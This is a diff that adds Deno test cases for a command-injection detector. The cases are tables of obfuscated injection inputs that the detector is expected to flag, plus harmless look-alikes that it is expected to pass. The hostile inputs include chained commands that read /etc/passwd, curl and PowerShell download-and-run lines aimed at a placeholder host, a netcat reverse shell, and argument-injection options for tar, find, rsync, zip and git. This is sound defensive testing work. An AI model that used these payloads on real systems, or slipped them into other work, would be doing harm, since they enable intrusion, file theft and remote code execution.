@@ -173,3 +173,62 @@ Deno.test("commandInjectionDetector.scan() never throws and stays fast", () => {
   assert.ok(performance.now() - t0 < 2000);
   assert.deepEqual(commandInjectionDetector.scan("", at("cmd"), {} as CommandInjectionOptions), []);
 });
+
+/** Shell obfuscation (quotes, carets, ANSI-C, globs, braces, slices) and program-running options. */
+const OBFUSCATED: ReadonlyArray<[key: string, value: string, kind: string]> = [
+  ["filename", "notes.txt & w^h^o^a^m^i /all", "chained_command"],
+  ["filename", "a & c^u^r^l http://x.example/p -o p.exe", "chained_command"],
+  ["filename", "a.txt;c\\a\\t /etc/passwd", "chained_command"],
+  ["filename", "x|ca$@t /etc/passwd", "chained_command"],
+  ["host", "example.com;$'\\167\\150\\157\\141\\155\\151'", "chained_command"],
+  ["host", "x;/???/??t /???/??ss??", "chained_command"],
+  ["filename", "file.txt;${PATH:0:1}bin${PATH:0:1}sh", "chained_command"],
+  ["filename", "a.pdf & %SystemRoot%\\System32\\cmd.exe /c whoami", "chained_command"],
+  ["drive", "C: & %COMSPEC% /c certutil -urlcache -f http://x.example/a a.exe", "chained_command"],
+  ["message", "note: ; c''url http://x.example/i.sh | sh", "chained_command"],
+  ["message", 'ok & p"o"wershell -nop -c iex(iwr http://x.example/a)', "chained_command"],
+  ["text", "hi\n/???/?c -e /???/b??h 198.51.100.1 4444", "reverse_shell"],
+  [
+    "archive",
+    "backup.tar --checkpoint=1 --checkpoint-action=exec=sh shell.sh",
+    "argument_injection",
+  ],
+  ["name", "*.log -execdir sh -c 'curl x.example|sh' ;", "argument_injection"],
+  ["source", "--rsh=sh -c 'id>/tmp/o'", "argument_injection"],
+  ["archive", "out.zip -T -TT 'sh -c id'", "argument_injection"],
+  ["options", "--to-command=sh -c id", "argument_injection"],
+  ["url", "ext::sh -c touch% /tmp/pwned", "argument_injection"],
+  ["repo", "https://example.com/a.git --config=core.sshCommand=sh -c id", "argument_injection"],
+  ["filename", 'reg add "HKLM\\System\\CurrentControlSet" /v x /t REG_DWORD', "command_as_value"],
+];
+
+/** Look-alikes of the tricks above that are ordinary values. */
+const OBFUSCATED_LOOKALIKES: ReadonlyArray<[key: string, value: string]> = [
+  ["filename", "Q3 Report (final) & notes; v2.docx"],
+  ["filename", "O'Brien's notes; final.txt"],
+  ["filename", "Budget (FY24) | draft.xlsx"],
+  ["filename", "report ^2 final.docx"],
+  ["filename", "net income 2024.xlsx"],
+  ["image", "postgres:${PG_VERSION:-16}"],
+  ["image", "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAE+AAAAAQ/CAY=="],
+  ["query", "Tip: use {a,b,c} brace expansion; e.g. cp file.{txt,bak}"],
+  ["message", "Don't do that; it's risky && costly"],
+  ["query", "rsync -e ssh -avz src/ host:/dst"],
+  ["query", "find . -name '*.tmp' -exec rm {} \\;"],
+  ["query", "git clone --config core.autocrlf=false https://github.com/a/b"],
+  ["text", '{"id":1,"tags":["a","b"]}\n{"id":2,"items":[{"sku":"X-1"}]}'],
+  ["message", "Use the && operator; || runs on failure"],
+];
+
+Deno.test("commandInjectionDetector.scan() sees through quoting, caret, glob and brace tricks and program-running options", () => {
+  for (const [key, value, kind] of OBFUSCATED) {
+    const kinds = scan(key, value).map((f) => f.kind);
+    assert.ok(kinds.includes(kind), `${key}=${value}: expected ${kind}, got [${kinds}]`);
+  }
+});
+
+Deno.test("commandInjectionDetector.scan() passes file names, placeholders and prose that look like those tricks", () => {
+  for (const [key, value] of OBFUSCATED_LOOKALIKES) {
+    assert.deepEqual(scan(key, value).map((f) => f.reason), [], `${key}=${value}`);
+  }
+});
